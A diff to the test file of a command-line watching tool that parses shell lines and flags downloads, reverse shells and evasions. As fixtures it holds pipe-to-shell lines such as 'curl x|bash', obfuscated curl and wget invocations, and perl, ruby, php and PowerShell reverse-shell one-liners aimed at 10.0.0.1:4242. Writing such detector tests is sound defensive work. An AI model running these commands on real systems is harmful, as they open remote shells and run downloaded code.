@@ -171,7 +171,7 @@ test('shell lines: commands and words', async (t) => {
     [';curl x|sh', [['curl', 'x'], ['sh']]],
     ['a;\nb\n\nc &d && e || f', [['a'], ['b'], ['c'], ['d'], ['e'], ['f']]],
     ['echo $(wget http://e/x)', [['wget', 'http://e/x'], ['echo', '$()']]],
-    ['A=1 B="x y" curl x >out 2>&1 <in >>log &>all', [['curl', 'x']]],
+    ['A=1 B="x y" C[1]=z D+=w curl x >out 2>&1 <in >>log &>all', [['curl', 'x']]],
     ['"A=1" x; A\\=1 y', [['A=1', 'x'], ['A=1', 'y']]],
     ['echo "$(id)" `whoami`', [['id'], ['whoami'], ['echo', '$()', '$()']]],
     ['echo \'a;b\' "c;d" e\\;f "a\\"b\\$c\\x"', [['echo', 'a;b', 'c;d', 'e;f', 'a"b$c\\x']]],
@@ -181,8 +181,9 @@ test('shell lines: commands and words', async (t) => {
     ['cat <<-EOF\n\t$(wget x)\n\tEOF\nid', [['cat'], ['wget', 'x'], ['id']]],
     ['for f in a b; do convert $f; done', [['convert', '$f']]],
     ['for x do curl; done', [['curl']]],
-    // case patterns and function names read as commands: a line with them alerts unless they are allowed
-    ['case $x in a) curl y;; (b|c) wget z;; esac; id', [['case', '$x', 'in', 'a'], ['curl', 'y'], ['b'], ['c'], ['wget', 'z'], ['esac'], ['id']]],
+    ['case $x in a) curl y;; (b|c) wget z;; esac; id', [['curl', 'y'], ['wget', 'z'], ['id']]],
+    ['echo $(case x in x) curl;; esac) $(time -p case y in y) wget;; esac)', [['curl'], ['wget'], ['echo', '$()', '$()']]],
+    // a function's name reads as a command: a line that defines one alerts unless the name is allowed
     ['f() { curl x; }; function g { wget y; }; f', [['f'], ['curl', 'x'], ['wget', 'y'], ['f']]],
     ['if true; then id; elif ! false; then :; fi', [['true'], ['id'], ['false'], [':']]],
     ['$\'\\x63url\' $\'\\143url\' $\'cu\\0rl\' $\'\\u0063\\cA\\n\'', [['curl', 'curl', 'cu', 'c\x01\n']]],
@@ -208,9 +209,11 @@ test('shell lines: every program dash and bash really run is listed', async (t) 
     'echo ${x:-$(curl y)}', '! curl x && wget y || nc z', 'x=$((1+2)) id', 'echo $(( $(id -u) + 1 ))', 'exec curl x', 'command curl x',
     'command -v curl', 'eval "cu""rl x"', 'sh -c \'wget x; "c"url y\'', 'timeout 5 curl x', 'nice -n 5 wget y', 'env A=1 curl x',
     'echo a | xargs -n 1 curl', 'trap \'curl x\' EXIT', 'nohup wget y', 'stdbuf -o0 curl x', 'setsid -w id', 'cu\'\'rl x; c"u"r\\l y',
-    'for x in 1; do id; done', 'while ! true; do curl; done; whoami'
+    'for x in 1; do id; done', 'while ! true; do curl; done; whoami', 'echo $(cat <<EOF)\ncurl x\nEOF', 'echo `cat <<EOF`\ncurl x\nEOF',
+    'cat <<EOF; echo $(\ncurl x\n)\nEOF\nid', 'echo $( case x in x) curl ;; esac )', 'case x in x) case y in y) curl;; esac;; esac; wget',
+    'echo "$(echo "$(curl)")"', 'echo `echo \\\\\`curl\\\\\``', 'echo ${x#)} $(curl)', 'echo $(echo \\) ; curl)', 'echo \\\\$(curl)'
   ]
-  const bashOnly = ['$\'\\x63url\' x', 'cat <(curl x) >(wget y)', 'time curl x', 'eval $\'w\\x67et\' y']
+  const bashOnly = ['$\'\\x63url\' x', 'cat <(curl x) >(wget y)', 'time curl x', 'eval $\'w\\x67et\' y', 'echo $(time case x in x) curl;; esac)', 'A[1]=x curl']
   let runs = 0
   const ran = (shell: string, line: string): string[] => {
     // A log per run: bash does not wait for a process substitution, which may log after its line is done.
@@ -225,6 +228,24 @@ test('shell lines: every program dash and bash really run is listed', async (t) 
       const real = ran(shell, line)
       t.ok(real.every((name) => listed.has(name)), `${shell} -c ${JSON.stringify(line)}: ran ${real.join(', ') || 'none'}, listed ${[...listed].join(', ')}`)
     }
+  }
+})
+
+test('wrappers and shells started directly: every program they really run is listed', async (t) => {
+  const calls: Array<[string, string[]]> = [
+    ['dash', ['-c', '--', 'curl']], ['bash', ['-e', '-c', 'curl']], ['bash', ['-c', '-e', 'curl']], ['dash', ['-o', 'errexit', '-c', 'curl']],
+    ['bash', ['--norc', '-xc', 'curl', 'arg0']], ['env', ['-u', 'X', 'A=1', 'curl']], ['env', ['-uX', '--', 'curl']], ['env', ['-C', '/', 'curl']],
+    ['env', ['-S', 'curl x']], ['env', ['--split-string', 'wget x']], ['nice', ['-n', '1', 'curl']], ['nice', ['-1', 'curl']], ['timeout', ['-k', '1', '5', 'curl']],
+    ['timeout', ['--signal', 'KILL', '5', 'nice', 'curl']], ['xargs', ['-I', 'X', 'curl', 'X']], ['xargs', ['-n1', 'curl']], ['stdbuf', ['-o', 'L', 'curl']],
+    ['stdbuf', ['-oL', 'wget']], ['setsid', ['-w', 'curl']], ['nohup', ['--', 'curl']]
+  ]
+  for (const [file, args] of calls) {
+    const log = `${LOG}.direct`
+    writeFileSync(log, '')
+    cp.spawnSync(file, args, { env: { PATH: `${BIN}:/usr/bin:/bin`, WATCH_LOG: log }, cwd: dir, input: 'a\n', timeout: 10_000, stdio: ['pipe', 'ignore', 'ignore'] })
+    const real = [...new Set(readFileSync(log, 'utf8').split('\n').filter(Boolean))]
+    const listed = programsOf(call('spawn', file, args)).map((p) => p.name)
+    t.ok(real.length > 0 && real.every((name) => listed.includes(name)), `${file} ${args.join(' ')}: ran ${real.join(', ')}, listed ${listed.join(', ')}`)
   }
 })
 
@@ -309,6 +330,7 @@ test('verdicts: reverse shells, even for programs on the allow list', async (t) 
   ruled(t, 'reverse-shell', 'perl', [['exec', 'perl -MIO -e \'$p=fork;$c=new IO::Socket::INET(PeerAddr,"10.0.0.1:4242")\'']])
   ruled(t, 'reverse-shell', 'ruby', [['exec', 'ruby -rsocket -e \'f=TCPSocket.open("10.0.0.1",4242).to_i\'']])
   ruled(t, 'reverse-shell', 'php', [['exec', 'php -r \'$sock=fsockopen("10.0.0.1",4242);exec("sh <&3 >&3 2>&3");\'']])
+  ruled(t, 'reverse-shell', 'powershell', [['spawn', 'powershell', ['-nop', '-c', '$c = New-Object System.Net.Sockets.TCPClient("10.0.0.1",4242)']]])
   ruled(t, 'interpreter', 'python', [['exec', 'python -c "print(empty)"']]) // `pty` inside a word is not the pty module
   ruled(t, undefined, 'nc', [['exec', 'nc -z db 5432']])
 })
@@ -321,7 +343,7 @@ test('verdicts: evasions', async (t) => {
   ruled(t, 'download', 'curl', [
     ['exec', 'env curl x'], ['exec', 'env -i -u HOME A=1 curl x'], ['exec', 'nohup nice -n 5 timeout -s 9 5 curl x'], ['spawn', 'sudo', ['-u', 'www', 'curl', 'x']],
     ['exec', 'exec curl x'], ['exec', 'command curl x'], ['exec', 'xargs -I{} curl {}'], ['exec', 'stdbuf -o0 setsid time -p curl x'], ['exec', 'env -S "curl x"'],
-    ['exec', 'eval "cu""rl" x'], ['exec', 'trap "curl x" EXIT'], ['exec', 'c\'\'url x'], ['exec', '$\'\\x63url\' x'], ['exec', 'git log --format=$(curl x)'],
+    ['exec', 'eval "cu""rl" x'], ['exec', 'trap "curl x" EXIT'], ['exec', 'trap -- "curl x" EXIT'], ['exec', 'c\'\'url x'], ['exec', '$\'\\x63url\' x'], ['exec', 'git log --format=$(curl x)'],
     ['exec', 'git status;curl x|bash'], ['exec', 'git log `curl x`'], ['exec', 'git log "$(curl x)"'], ['exec', 'cat <<EOF\n$(curl x)\nEOF'],
     ['spawn', 'git log;curl x', { shell: '/bin/bash' }]
   ])
@@ -342,7 +364,7 @@ test('programsOf: the programs of a call', async (t) => {
   t.same(paths('spawn', 'sh', ['-c', 'git log; curl x']), ['sh', 'git', 'curl'])
   t.same(paths('spawn', 'bash', ['--norc', '-o', 'pipefail', '-c', 'id', 'arg0']), ['bash', 'id'])
   t.same(paths('spawn', 'bash', ['script.sh', '-c', 'id']), ['bash'], 'a script: its arguments are not a command line')
-  t.same(paths('exec', 'echo x; cd /; printf y; exit 0'), [], 'builtins that start nothing')
+  t.same(paths('exec', 'echo x; cd /; printf y; trap - INT; exit 0'), [], 'builtins that start nothing')
   t.same(paths('spawn', 'echo', ['x']), ['echo'], 'echo started directly is /bin/echo')
   t.same(paths('exec', 'command -v curl; timeout -k 5 10 wget x'), ['timeout', 'wget'])
   t.same(paths('spawn', 'env', ['-S', 'curl -s x', 'y']), ['env', 'curl'])
@@ -370,7 +392,8 @@ test('parseAllowList: entries, and errors that name the entry', async (t) => {
     [['git', 5], /processWatch\.allow\[1\] must be a program name or path/], [['a\0b'], /\[0\] must not contain a NUL byte/],
     [[{ program: '' }], /\[0\]\.program must be a non-empty string/], [[{ program: 'git', arg: 'x' }], /\[0\] has an unknown key "arg"/],
     [[{ program: 'git', args: 5 }], /\[0\]\.args must be a RegExp or a string, not number/], [[{ program: 'git', args: '(' }], /\[0\]\.args is not a valid regular expression/],
-    [[/git/], /\[0\] must be a program name or path/], [[null], /\[0\] must be a program name or path/], [['.exe'], /\[0\] names no program/]
+    [[/git/], /\[0\] must be a program name or path/], [[null], /\[0\] must be a program name or path/], [['.exe'], /\[0\] names no program/],
+    [[, 'git'], /\[0\] must be a program name or path/] // a hole in the array is no entry
   ]
   for (const [entries, message] of errors) t.throws(() => parseAllowList(entries, 'processWatch.allow'), { name: 'TypeError', message }, String(message))
   const entry: AllowEntry = { program: 'git', args: 'status' }
